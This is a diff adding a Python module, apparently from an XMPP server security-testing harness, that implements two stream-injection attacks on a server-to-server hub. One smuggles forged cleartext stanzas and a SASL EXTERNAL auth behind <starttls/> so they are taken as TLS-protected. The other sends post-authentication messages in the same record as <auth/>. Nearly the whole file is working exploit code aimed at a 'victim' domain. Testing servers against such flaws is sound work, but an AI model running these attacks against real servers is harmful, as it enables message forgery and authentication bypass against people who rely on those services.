@@ -1,0 +1,102 @@
+"""Clear octets that the hub should take for octets of TLS, or octets of a later layer sent in the former."""
+
+import base64
+import socket
+import time
+
+from peers.s2s_peer import STARTTLS, Listener
+from peers.certificates import client_context
+from peers.stream import Closed, Stream, stream_header
+
+from .. import parent
+from .ground import Ground, kind
+
+EXTERNAL = "<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='EXTERNAL'>{}</auth>"
+WAIT_FOR_THE_HUB_S = 1.0
+
+
+def forged(ground: Ground) -> str:
+    """What a stranger writes in clear for the hub to take it for the partner's."""
+    header = stream_header(from_=ground.domain, to=ground.victim)
+    message = f"<message from='forger@{ground.domain}' to='b@{ground.victim}'><body>forged</body></message>"
+    return header + EXTERNAL.format("=") + header + message + message
+
+
+@kind
+def smuggle_behind_starttls(ground: Ground, asks: int, pause: bool) -> None:
+    """Fills the hub's outbox with answers that are not read, agrees on TLS, and goes on in clear. Then the partner's own
+    TLS session runs on the connection. @param asks so many questions fill it. @param pause between `<starttls/>` and the
+    rest, so that the hub reads them apart.
+    """
+    ground.begin()
+    tried = ended_before = handshakes = 0
+    while not ground.over():
+        tried += 1
+        stream = None
+        try:
+            stream = fill(ground, asks)
+            stream.send(STARTTLS if pause else STARTTLS + forged(ground), within=2)
+            if pause:
+                time.sleep(0.2)
+                stream.send(forged(ground), within=2)
+            ended_before += not reaches_proceed(stream)
+            stream.restart()
+            stream.start_tls(client_context(ground.certificate), name=ground.victim, within=2)
+            handshakes += 1
+            stream.send_header(from_=ground.domain, to=ground.victim)
+            read_to_end(stream)
+        except (Closed, OSError, AssertionError):
+            pass
+    ground.done(1, tried=tried, ended_before=ended_before, handshakes=handshakes)
+
+
+def fill(ground: Ground, asks: int) -> Stream:
+    """A stream in clear with so many questions, the answers to which wait in small buffers."""
+    sock = socket.socket()
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+    sock.connect(ground.s2s)
+    stream = Stream(sock)
+    stream.send_header(from_=ground.domain, to=ground.victim)
+    stream.read_header()
+    stream.expect("stream:features")
+    question = f"<db:verify from='{ground.domain}' to='{ground.victim}' id='1'>k</db:verify>"
+    stream.send(question * asks, within=3)
+    return stream
+
+
+def reaches_proceed(stream: Stream) -> bool:
+    """Reads what the hub had to say in clear. @returns whether it agreed on TLS."""
+    seen = b""
+    deadline = time.monotonic() + WAIT_FOR_THE_HUB_S
+    while b"<proceed" not in seen[-400:] and time.monotonic() < deadline:
+        seen += stream.receive(WAIT_FOR_THE_HUB_S)
+    return b"<proceed" in seen[-400:]
+
+
+def read_to_end(stream: Stream) -> None:
+    deadline = time.monotonic() + WAIT_FOR_THE_HUB_S
+    while time.monotonic() < deadline:
+        stream.receive(WAIT_FOR_THE_HUB_S)
+
+
+@kind
+def smuggle_behind_auth(ground: Ground, direct: bool) -> None:
+    """On TLS: sends `<auth/>` and, in the same record, what should come only after `<success/>`."""
+    ground.begin()
+    tried = 0
+    authzid = base64.b64encode(ground.domain.encode()).decode()
+    while not ground.over():
+        tried += 1
+        remote = Listener(parent.Dns(), certificate=ground.certificate)
+        remote.domain = ground.domain
+        address = ground.direct if direct else ground.s2s
+        stream = remote.open_stream(address, ground.victim, secure=not direct, direct=direct)
+        remote.close()
+        try:
+            header = stream_header(from_=ground.domain, to=ground.victim)
+            message = f"<message from='early@{ground.domain}' to='b@{ground.victim}'><body>early</body></message>"
+            stream.send(EXTERNAL.format(authzid) + header + message)
+            read_to_end(stream)
+        except (Closed, OSError):
+            pass
+    ground.done(1, tried=tried)
